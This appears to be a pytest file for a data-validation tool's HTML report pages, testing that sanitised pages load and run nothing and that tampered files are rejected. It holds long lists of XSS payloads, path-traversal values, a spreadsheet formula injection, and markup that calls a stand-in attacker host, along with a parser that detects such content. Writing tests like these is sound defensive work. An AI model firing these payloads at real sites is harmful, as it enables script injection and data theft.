"""Pages about data run nothing, load nothing and show what was planted as text, or the file is refused by name."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pairity.errors import DataError, LakeCorruptError
from pairity.layout import Layout
from pairity.settings import Settings
from tests.validation.frames import NOW, funding, of, profile
from validation.checkpoint import build_docs, judge
from validation.quarantine import Quarantine, read_items
from validation.row_verdicts import judge_raw_rows
from validation.sealed_pages import seal_page

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "../../../x",
    "..\\x",
    "a\x1b[2Jb",
    "=cmd|' /C calc'!A0",
    "",
)


@pytest.fixture
def home(tmp_path):
    return Settings(home=tmp_path / "home")


def plant(home, where, text):
    judge(home, {"funding": profile(funding((0.5,)), "funding")})
    (path,) = (home.root / "gx" / "validations").glob("*.json")
    content = json.loads(path.read_text())
    entry = content["suites"]["funding"]
    if where == "keys":
        entry["keys"] = [text]
    elif where == "failed":
        entry["failed"] = [text]
    elif where == "column":
        entry["rules"]["rows"][0] = text
    elif where == "limit":
        entry["rules"]["rows"][1] = text
    elif where == "rule":
        entry["rules"][text] = entry["rules"].pop("rows")
    else:
        entry[where] = text
    path.write_text(json.dumps(content))
    return path


@pytest.mark.parametrize("where", ["about", "keys", "failed", "column", "limit", "rule"])
@pytest.mark.parametrize("text", HOSTILE)
def test_a_planted_result_is_refused_by_name(home, where, text, tmp_path):
    if (where, text) == ("about", ""):
        pytest.skip("what a validation was about may be empty: its process is named instead")
    path = plant(home, where, text)
    with pytest.raises(DataError, match=re.escape(str(path))):
        build_docs(home)
    assert sorted(item.name for item in tmp_path.iterdir()) == ["home"]


class Loads(HTMLParser):
    """What a browser would fetch or run by itself. An oracle of its own: it shares nothing with the sealing."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)
        self.close()

    def handle_data(self, data):
        if self.get_starttag_text() == "<style>" and re.search(r"url\(|@import|expression\(", data):
            self.found.append(("style", data))

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "base", "form", "svg", "math"):
            self.found.append(tag)
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name == "srcdoc":
                self.found.append((tag, name))
            if name == "style" and re.search(r"url\s*\(|image-set|@import", address):
                self.found.append((tag, name, value))
            if name in ("src", "srcset", "poster", "background", "data") and re.match(r"[a-z+.-]+:|//|\\", address):
                self.found.append((tag, name, value))
            if name == "href" and tag not in ("a", "area") and re.match(r"[a-z+.-]+:|//|\\", address):
                self.found.append((tag, name, value))
            if name == "href" and re.match(r"(?!https?:)[a-z+.-]+:", address):
                self.found.append((tag, name, value))

    handle_startendtag = handle_starttag


def test_the_data_docs_load_nothing_and_run_nothing(home):
    judge(home, {"funding": profile(funding((0.5,)), "funding")})
    index = build_docs(home)
    pages = sorted(index.parent.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        text = page.read_text()
        assert Loads(text).found == []
        assert not re.search("newsletter|subscribe|logo|<img", text, re.IGNORECASE)
        assert "Content-Security-Policy" in text[:600]
    listed = set(re.findall(r'href="([^"]+\.html)"', index.read_text()))
    assert len(listed) == len(pages) - 1
    assert "rates_out_of_bounds" in index.read_text()


ATTACKS = (
    "<script src=//evil.example></script>",
    "<SCRIPT>alert(1)</SCRIPT >x",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q'>",
    "<img src='//evil.example'>",
    "<img src='\\\\evil.example\\x'>",
    "<img srcset='https://evil.example 2x'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<link rel=prefetch href=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src=x></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input type=submit></form>",
    "<svg/onload=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<p title="<script>alert(1)</script>">x</p>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<style>body{background:url(https://evil.example/logo.png)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@media (prefers-color-scheme: dark){a{background:url('//evil.example')}}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style='background-image:image-set(url(//evil.example) 1x)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<footer>Subscribe <img src=logo.png></footer>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<video poster=https://evil.example><source src=//evil.example></video>",
    "<x <script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_sealed_pages_keep_nothing_of_an_attack(attack):
    sealed = seal_page(f"<html><body><p>before</p>{attack}<p>after</p></body></html>")
    assert Loads(sealed).found == []
    assert "before" in sealed


@given(st.lists(st.sampled_from(ATTACKS) | st.text(alphabet="<>\"'=/&;! -scriptonload", max_size=12), max_size=8))
def test_no_mixture_of_attacks_survives(pieces):
    sealed = seal_page("".join(pieces))
    assert Loads(sealed).found == []
    assert Loads(seal_page(sealed)).found == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("dataset", "../../../lake"),
        ("dataset", "<script>"),
        ("key", "../../x/2025-04"),
        ("key", "BTC/2025-04/../.."),
        ("key", "ETH/2025-04"),
        ("id", "../../x"),
        ("id", "0" * 12),
        ("id", 7),
    ],
)
def test_a_planted_quarantine_item_is_refused_by_name(tmp_path, name, value):
    layout = Layout(tmp_path)
    rows = judge_raw_rows(of("BTC", funding((0.0001, 0.5))), "funding", NOW).withheld.drop("asset")
    (item,) = Quarantine.read(layout).withhold("funding", "BTC/2025-04", rows, now=NOW)
    reason = item.path / "reason.json"
    reason.write_text(json.dumps(json.loads(reason.read_text()) | {name: value}))
    with pytest.raises(LakeCorruptError, match=re.escape(str(reason))):
        read_items(layout)


def test_the_overview_shows_planted_text_as_text(tmp_path):
    layout = Layout(tmp_path)
    (layout.root / "gx" / "verdicts").mkdir(parents=True)
    planted = {"funding": {"<script>alert(1)</script>": True}}
    (layout.root / "gx" / "verdicts" / "<img src=x onerror=alert(1)>.json").write_text(json.dumps(planted))
    page = build_docs(Settings(home=tmp_path)).read_text()
    assert Loads(page).found == []
